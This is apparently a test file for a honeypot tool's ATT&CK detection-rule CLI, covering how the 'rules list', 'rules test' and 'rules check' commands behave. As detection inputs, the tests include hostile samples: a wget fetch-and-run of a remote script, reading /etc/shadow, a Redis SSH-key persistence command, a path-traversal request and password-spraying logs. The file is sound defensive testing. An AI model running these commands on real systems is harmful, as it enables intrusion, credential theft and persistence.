// `decnet rules list|test|check` over the shipped pack and operator directories: list and test of an argument run in
// this process (run-in-process.ts: dozens of runs), standard input and check's exit codes as real processes.
import assert from 'node:assert/strict'
import {join} from 'node:path'
import {describe, it, type TestContext} from 'node:test'

import {ATTACK_CATALOG_ENV} from '../../src/ttp/attack-catalog.js'
import {RULES_DIR_ENV} from '../../src/ttp/rule-loader.js'
import {dataDirEnv} from '../helpers/decnet-cli.js'
import {runCli} from '../helpers/run-cli.js'
import {runInProcess} from '../helpers/run-in-process.js'
import {rule as testRule, rulesDir, tempDir} from '../helpers/rule-files.js'

interface Run {
  code: number
  stdout: string
  stderr: string
}

/** The operator's own rule these tests use: a bait tool being run. */
function rule(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const acme = {confidence: 0.7, description: 'Our bait tool being run', examples: {match: ['acme-backup --all'], noMatch: ['echo acme-backup']}}
  return testRule({...acme, id: 'local.acme-backup', pattern: '{{cmd}}acme-backup{{end}}', ...overrides})
}

/** Runs decnet with a private data directory: here, or as a real process when it reads `input` or `where` says so. */
async function decnet(t: TestContext, args: string[], input?: string, where: 'here' | 'process' = input === undefined ? 'here' : 'process'): Promise<Run> {
  const env = {...dataDirEnv(tempDir(t)), [ATTACK_CATALOG_ENV]: '', [RULES_DIR_ENV]: ''}
  const run = (where === 'here' ? await runInProcess(args, {env}) : await runCli(args, {env, input})) as Run
  return {...run, stderr: run.stderr.replaceAll(/\s*\n ›\s+/g, ' ')}
}

describe('decnet rules list', () => {
  it('lists every shipped rule with its version, input kind, techniques, state and origin', async (t) => {
    const run = await decnet(t, ['rules', 'list', '--json'])
    assert.equal(run.code, 0, run.stderr)
    const rules = JSON.parse(run.stdout) as Array<Record<string, unknown>>
    assert.ok(rules.length >= 50)
    const info = rules.find((candidate) => candidate.id === 'discovery.system-info')!
    assert.deepEqual(
      {field: info.field, origin: info.origin, state: info.state, techniques: info.techniques, version: info.version},
      {field: 'command', origin: 'built-in', state: 'active', techniques: ['T1082'], version: 1},
    )
    const text = await decnet(t, ['rules', 'list'])
    assert.match(text.stdout, /^RULE +VERSION +INPUT +TECHNIQUES +STATE +ORIGIN\n/)
    assert.match(text.stdout, /\ncredential-access\.passwd-file +1 +command +T1087\.001,T1003\.008 +active +built-in\n/)
  })

  it('lists the built-in counting rules with their input kinds (auth, credential, behaviour)', async (t) => {
    const run = await decnet(t, ['rules', 'list', '--json'])
    assert.equal(run.code, 0, run.stderr)
    const counting = (JSON.parse(run.stdout) as Array<{field: string; id: string; origin: string; state: string; techniques: string[]}>)
      .filter((candidate) => ['auth', 'behaviour', 'credential'].includes(candidate.field))
      .map((candidate) => `${candidate.id} ${candidate.field} ${candidate.techniques.join(',')} ${candidate.state} ${candidate.origin}`)
    assert.deepEqual(counting, [
      'credential-access.brute-force auth T1110.001 active built-in',
      'credential-access.password-spraying credential T1110.003 active built-in',
      'credential-access.credential-stuffing credential T1110.004 active built-in',
      'initial-access.default-credentials credential T1078.001 active built-in',
      'initial-access.login-after-brute-force auth T1078,T1110 active built-in',
      'command-and-control.beaconing behaviour T1071,T1029 active built-in',
    ])
  })

  it("shows an operator's rules as user rules, and what their overrides do to the shipped ones", async (t) => {
    const dir = rulesDir(t, [
      rule(),
      rule({disabled: true, id: 'discovery.owner-user', version: 2}),
      rule({id: 'discovery.system-info', version: 5}),
    ])
    const run = await decnet(t, ['rules', 'list', '--rules-dir', dir, '--json'])
    assert.equal(run.code, 0, run.stderr)
    const states = (JSON.parse(run.stdout) as Array<{id: string; origin: string; state: string; version: number}>)
      .filter((candidate) => ['discovery.owner-user', 'discovery.system-info', 'local.acme-backup'].includes(candidate.id))
      .map((candidate) => `${candidate.id} v${candidate.version} ${candidate.origin} ${candidate.state}`)
      .sort()
    assert.deepEqual(states, [
      'discovery.owner-user v1 built-in overridden',
      'discovery.owner-user v2 user disabled',
      'discovery.system-info v1 built-in overridden',
      'discovery.system-info v5 user active',
      'local.acme-backup v1 user active',
    ])
  })
})

describe('decnet rules test', () => {
  it('says which rules fire on a command, with technique names and evidence', async (t) => {
    const run = await decnet(t, ['rules', 'test', 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'])
    assert.equal(run.code, 0, run.stderr)
    assert.match(run.stdout, /^command-and-control\.ingress-tool-transfer \(v2, command\): wget http:\/\/203\.0\.113\.9\/x\.sh\n {2}T1105 +Ingress Tool Transfer {2}\[TA0011 Command and Control, confidence 0\.8\]\n/m)
    assert.match(run.stdout, /^execution\.unix-shell \(v1, command\): sh x\.sh$/m)
    const none = await decnet(t, ['rules', 'test', 'vim notes.txt'])
    assert.match(none.stdout, /^no rule fires \(ATT&CK 18\.1\)$/m)
  })

  it('runs the counting rules over several log lines from standard input, naming the line each fires on', async (t) => {
    const attempt = (second: number, principal: string, secret: string) =>
      `<38>1 2026-11-26T13:32:0${second}Z decky-01 ssh - auth_attempt [relay@55555 src_ip="203.0.113.7" principal="${principal}" username="${principal}" secret_b64="${Buffer.from(secret).toString('base64')}"] -`
    const spray = ['root', 'admin', 'oracle', 'test', 'user'].map((principal, n) => attempt(n + 1, principal, 'Summer2026!'))
    const run = await decnet(t, ['rules', 'test', '-'], `${spray.join('\n')}\n`)
    assert.equal(run.code, 0, run.stderr)
    assert.match(run.stdout, /^5 log lines\n/)
    assert.match(run.stdout, /^line 5: credential-access\.password-spraying \(v1, credential\): 5 principals, 1 secret \(sha256 [0-9a-f]{12}…\) from 203\.0\.113\.7 in 4 s: root, admin, oracle, test, user\n {2}T1110\.003 +Brute Force: Password Spraying/m)
    const guessing = await decnet(t, ['rules', 'test', '-'], [1, 2, 3, 4, 5].map((n) => attempt(n, 'root', `pw${n}`)).join('\n'))
    assert.doesNotMatch(guessing.stdout, /password-spraying/)
    assert.match(guessing.stdout, /^line 5: credential-access\.brute-force /m)
    const pi = await decnet(t, ['rules', 'test', attempt(1, 'pi', 'raspberry'), '--json'])
    const result = JSON.parse(pi.stdout) as {hits: Array<{field: string; rule: string}>}
    assert.deepEqual(result.hits.map((hit) => `${hit.rule} ${hit.field}`), ['initial-access.default-credentials credential'])
  })

  it('reads a whole DECNET log line as the worker does, from an argument or standard input', async (t) => {
    const line = '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 src_ip="203.0.113.7" command="cat /etc/shadow"]'
    for (const args of [['rules', 'test', line, '--json'], ['rules', 'test', '-', '--json']]) {
      const run = await decnet(t, args, `${line}\n`)
      assert.equal(run.code, 0, run.stderr)
      const result = JSON.parse(run.stdout)
      assert.equal(result.input, 'log line')
      assert.equal(result.command, 'cat /etc/shadow')
      assert.deepEqual(result.hits.map((hit: {rule: string; techniques: Array<{id: string; name: string; url: string}>}) => [hit.rule, hit.techniques[0].id, hit.techniques[0].name, hit.techniques[0].url]), [
        ['credential-access.shadow-file', 'T1003.008', 'OS Credential Dumping: /etc/passwd and /etc/shadow', 'https://attack.mitre.org/techniques/T1003/008'],
      ])
    }

    const login = await decnet(t, ['rules', 'test', '<38>1 2026-11-26T13:32:51Z decky-01 ssh - login_failed [relay@55555 src_ip="203.0.113.7" user="root"]'])
    assert.match(login.stdout, /^log line \(login_failed\): no command, HTTP request, database command, mail, file or network event in it/)
    const broken = await decnet(t, ['rules', 'test', '<134>1 not-a-time decky-01 ssh - command'], undefined, 'process') // an exit code of a failure: a real process
    assert.equal(broken.code, 2)
    assert.match(broken.stderr, /looks like a DECNET log line but does not parse/)
  })

  it('reads the database command, mail, captured file or network event of a DECNET log line', async (t) => {
    const redis = await decnet(t, ['rules', 'test', `<134>1 2026-11-26T13:32:51Z cache-01 redis - command [relay@55555 src="198.51.100.9" cmd="CONFIG" args="['SET', 'dir', '/root/.ssh'\\]"]`])
    assert.equal(redis.code, 0, redis.stderr)
    assert.match(redis.stdout, /^log line \(command\): command CONFIG; database redis CONFIG SET dir \/root\/\.ssh\npersistence\.redis-ssh-key-write \(v1, database\): redis CONFIG SET dir \/root\/\.ssh\n {2}T1098\.004 +Account Manipulation: SSH Authorized Keys/)
    const file = await decnet(t, ['rules', 'test', '--json', '<134>1 2026-11-26T13:32:51Z db-02 ssh - file_captured [relay@55555 sha256="5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900" size="412" orig_path="/tmp/x.sh" src_ip="198.51.100.23" writer_comm="curl"]'])
    assert.equal(file.code, 0, file.stderr)
    const result = JSON.parse(file.stdout)
    assert.equal(result.other.file, 'sha256=5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900 size=412 writer=curl uid=- attribution=- path=/tmp/x.sh')
    assert.deepEqual(result.hits.map((hit: {field: string; rule: string}) => [hit.rule, hit.field]), [['command-and-control.captured-file-download', 'file']])
  })

  it('reads an HTTP request line (with headers) and a DECNET request event', async (t) => {
    const request = await decnet(t, ['rules', 'test', 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\nUser-Agent: sqlmap/1.7', '--json'])
    assert.equal(request.code, 0, request.stderr)
    const result = JSON.parse(request.stdout)
    assert.equal(result.input, 'http request')
    assert.equal(result.http, 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh\nUser-Agent: sqlmap/1.7')
    assert.deepEqual(result.hits.map((hit: {rule: string}) => hit.rule), ['initial-access.scanner-user-agent', 'initial-access.path-traversal'])
    const line = '<134>1 2026-11-26T13:32:51Z web-01 http - request [relay@55555 method="GET" path="/.git/config" remote_addr="203.0.113.7" headers="{\\"User-Agent\\": \\"curl/8.5.0\\"}"]'
    const logged = await decnet(t, ['rules', 'test', line])
    assert.equal(logged.code, 0, logged.stderr)
    assert.match(logged.stdout, /^log line \(request\): HTTP request GET \/\.git\/config\ncredential-access\.http-credential-files \(v1, http\): GET \/\.git\/config\n {2}T1552\.001 +Unsecured Credentials: Credentials In Files/)
  })

  it('escapes control bytes of the input it prints', async (t) => {
    const run = await decnet(t, ['rules', 'test', '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 command="cat /etc/shadow\u001B[2J"]'])
    assert.equal(run.code, 0, run.stderr)
    assert.doesNotMatch(run.stdout, /\u001B/)
  })
})

describe('decnet rules check', () => {
  it('passes the shipped pack (exit 0)', async (t) => {
    const run = await decnet(t, ['rules', 'check'], undefined, 'process')
    assert.equal(run.code, 0, run.stderr)
    assert.match(run.stdout, /^\d+ rules loaded \(ATT&CK 18\.1\): 0 refused, 0 warnings$/m)
  })

  it('names each rule a directory holds that would be refused, and why (exit 1)', async (t) => {
    const dir = rulesDir(t, [
      rule(),
      rule({emits: [{subTechnique: null, tactic: 'TA0002', technique: 'T9999'}], id: 'local.unknown-technique'}),
      rule({id: 'local.unsafe', pattern: '(a+)+$', examples: {match: ['aa'], noMatch: ['b']}}),
      rule({id: 'local.bad-example', examples: {match: ['acme-backup'], noMatch: ['acme-backup -x']}}),
      rule({id: 'local.no-examples', examples: undefined}),
      rule({emits: [{subTechnique: null, tactic: 'TA0010', technique: 'T1002'}], id: 'local.revoked'}),
    ])
    const run = await decnet(t, ['rules', 'check', dir], undefined, 'process')
    assert.equal(run.code, 1, run.stderr)
    const file = join(dir, 'local.json')
    assert.ok(run.stdout.includes(`error: ${file} (rule local.unknown-technique): emits T9999, which ATT&CK 18.1 does not know`), run.stdout)
    assert.match(run.stdout, /\(rule local\.unsafe\): "pattern" is unsafe/)
    assert.match(run.stdout, /\(rule local\.bad-example\): near-miss "acme-backup -x" should not match but does/)
    assert.match(run.stdout, /\(rule local\.no-examples\): "examples" must be an object/)
    assert.match(run.stdout, /warning: .*\(rule local\.revoked\): emits T1002 \(Data Compressed\), revoked in ATT&CK 18\.1 by T1560/)
    assert.match(run.stdout, /: 4 refused, 1 warnings$/m)

    const json = await decnet(t, ['rules', 'check', dir, '--json'], undefined, 'process')
    assert.equal(json.code, 1)
    const result = JSON.parse(json.stdout)
    assert.deepEqual(result.errors.map((problem: {rule: string}) => problem.rule).sort(), ['local.bad-example', 'local.no-examples', 'local.unknown-technique', 'local.unsafe'])
    assert.deepEqual(result.warnings.map((problem: {rule: string}) => problem.rule), ['local.revoked'])
  })

  it('refuses a directory it cannot read', async (t) => {
    const run = await decnet(t, ['rules', 'check', join(tempDir(t), 'absent')], undefined, 'process')
    assert.equal(run.code, 1)
    assert.match(run.stdout, /absent: rules directory cannot be read: ENOENT/)
  })
})
